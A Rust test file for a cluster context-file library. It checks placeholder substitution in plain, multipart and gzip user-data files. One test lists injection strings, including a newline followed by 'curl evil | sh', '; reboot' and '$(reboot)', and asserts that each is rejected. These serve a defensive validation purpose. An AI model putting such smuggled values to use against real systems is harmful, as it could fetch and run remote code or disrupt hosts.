//! The example context files in `contrib/examples/` read and rewrite as documented, through
//! the public API only, the way the agent uses it: load, check the values, substitute, write
//! atomically, load again.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use clusterctx::context::{check_value, legacy_bool, write_atomic, ContextFile};

fn example(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("contrib/examples")
        .join(name)
}

fn values(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn keys(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|n| n.to_string()).collect()
}

/// What the agent does to one file: check every value, substitute, write atomically.
fn contextualize(path: &Path, values: &BTreeMap<String, String>) -> bool {
    for (key, value) in values {
        check_value(key, value).unwrap();
    }
    let file = ContextFile::load(path).unwrap();
    match file.substitute(values).unwrap() {
        Some(bytes) => {
            write_atomic(path, &bytes).unwrap();
            true
        }
        None => false,
    }
}

fn copy_to(dir: &Path, name: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::copy(example(name), &path).unwrap();
    path
}

#[test]
fn master_example() {
    let file = ContextFile::load(example("master.txt")).unwrap();
    let block = file.block().unwrap().unwrap();
    assert_eq!(block.get("cvm_cluster_pin"), Some("enico1qq0oey"));
    assert_eq!(
        block.get("cvm_cluster_master").and_then(legacy_bool),
        Some(true)
    );
    assert!(file.placeholders().is_empty());
    assert!(file.warnings().is_empty());
}

#[test]
fn worker_example() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_to(dir.path(), "worker.txt");
    let before = std::fs::read_to_string(&path).unwrap();
    let file = ContextFile::load(&path).unwrap();
    let block = file.block().unwrap().unwrap();
    assert_eq!(block.get("cvm_cluster_master"), None);
    assert_eq!(file.placeholders(), keys(&["master_ip"]));

    assert!(contextualize(
        &path,
        &values(&[("master_ip", "10.10.25.5")])
    ));
    let after = std::fs::read_to_string(&path).unwrap();
    assert_eq!(
        after,
        before.replace("###MASTER_IP_PLACEHOLDER###", "10.10.25.5")
    );
    assert!(after.starts_with("[example_section]\nmy_master_ip=10.10.25.5\n"));
    // A second run finds nothing left to do.
    assert!(!contextualize(
        &path,
        &values(&[("master_ip", "10.10.25.5")])
    ));
}

#[test]
fn auto_example() {
    let file = ContextFile::load(example("auto.txt")).unwrap();
    let block = file.block().unwrap().unwrap();
    assert_eq!(block.get("cvm_cluster_master"), Some("auto"));
    assert_eq!(block.get("cvm_cluster_master").and_then(legacy_bool), None);
    assert_eq!(file.placeholders(), keys(&["master_ip"]));
}

#[test]
fn multipart_example() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_to(dir.path(), "multipart.txt");
    let before = std::fs::read_to_string(&path).unwrap();
    let file = ContextFile::load(&path).unwrap();
    assert_eq!(file.structure(), "MIME multipart(1: text, 2: text)");
    let block = file.block().unwrap().unwrap();
    assert_eq!(block.get("cvm_cluster_pin"), Some("enico1qq0oey"));
    assert_eq!(
        block.location().to_string(),
        format!("{}:10", path.display())
    );
    assert_eq!(file.placeholders(), keys(&["db_host", "master_ip"]));

    let v = values(&[("master_ip", "2001:db8::7"), ("db_host", "db.example:5432")]);
    assert!(contextualize(&path, &v));
    let after = std::fs::read_to_string(&path).unwrap();
    assert_eq!(
        after,
        before
            .replace("###MASTER_IP_PLACEHOLDER###", "2001:db8::7")
            .replace("###DB_HOST_PLACEHOLDER###", "db.example:5432")
    );
}

#[test]
fn gzip_compressed_worker() {
    let dir = tempfile::tempdir().unwrap();
    let plain = std::fs::read(example("worker.txt")).unwrap();
    let path = dir.path().join("user-data");
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&plain).unwrap();
    std::fs::write(&path, encoder.finish().unwrap()).unwrap();

    let file = ContextFile::load(&path).unwrap();
    assert_eq!(file.structure(), "gzip(text)");
    assert_eq!(
        file.block().unwrap().unwrap().get("cvm_cluster_pin"),
        Some("enico1qq0oey")
    );
    assert!(contextualize(&path, &values(&[("master_ip", "10.1.2.3")])));

    let mut after = Vec::new();
    flate2::read::GzDecoder::new(&std::fs::read(&path).unwrap()[..])
        .read_to_end(&mut after)
        .unwrap();
    assert_eq!(
        String::from_utf8(after).unwrap(),
        String::from_utf8(plain)
            .unwrap()
            .replace("###MASTER_IP_PLACEHOLDER###", "10.1.2.3")
    );
}

#[test]
fn a_malicious_value_never_reaches_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = copy_to(dir.path(), "multipart.txt");
    let before = std::fs::read(&path).unwrap();
    let file = ContextFile::load(&path).unwrap();
    for (key, value) in [
        ("master_ip", "10.0.0.1\n  - curl evil | sh"),
        ("master_ip", "10.0.0.1; reboot"),
        ("db_host", "x\"; reboot; echo \""),
        ("db_host", "$(reboot)"),
        ("db_host", "a\u{2028}b"),
    ] {
        assert!(check_value(key, value).is_err(), "{value:?}");
        assert!(
            file.substitute(&values(&[(key, value)])).is_err(),
            "{value:?}"
        );
    }
    assert_eq!(std::fs::read(&path).unwrap(), before);
}
